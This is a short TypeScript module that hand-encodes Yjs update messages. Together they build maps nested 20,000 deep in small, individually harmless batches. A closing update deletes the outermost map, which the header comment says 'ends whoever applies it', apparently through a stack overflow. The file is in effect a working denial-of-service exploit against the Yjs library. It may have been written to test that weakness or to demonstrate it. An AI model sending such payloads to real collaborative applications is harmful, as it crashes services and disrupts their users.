/**
 * A document that ends whoever applies it with Yjs: maps nested deeper than the stack, made in pushes that are each harmless, and the deletion of the outermost.
 */
import { createEncoder, toUint8Array, writeUint8, writeVarString, writeVarUint } from 'lib0/encoding'

const CLIENT = 77

/** Updates v1 of maps nested `depth` deep in the map `pets`, `step` of them an update; then the update that deletes the outermost. */
export function deepUpdates(depth = 20_000, step = 2000): readonly Uint8Array[] {
  const updates: Uint8Array[] = []
  for (let from = 0; from < depth; from += step) {
    const encoder = createEncoder()
    for (const number of [1, step, CLIENT, from]) writeVarUint(encoder, number)
    for (let clock = from; clock < from + step; clock++) {
      // A type as a map's value.
      writeUint8(encoder, 7 | 32)
      if (clock === 0) {
        writeVarUint(encoder, 1)
        writeVarString(encoder, 'pets')
      } else {
        for (const number of [0, CLIENT, clock - 1]) writeVarUint(encoder, number)
      }
      writeVarString(encoder, 'k')
      // A map.
      writeVarUint(encoder, 1)
    }
    writeVarUint(encoder, 0)
    updates.push(toUint8Array(encoder))
  }
  const encoder = createEncoder()
  for (const number of [0, 1, CLIENT, 1, 0, 1]) writeVarUint(encoder, number)
  return [...updates, toUint8Array(encoder)]
}
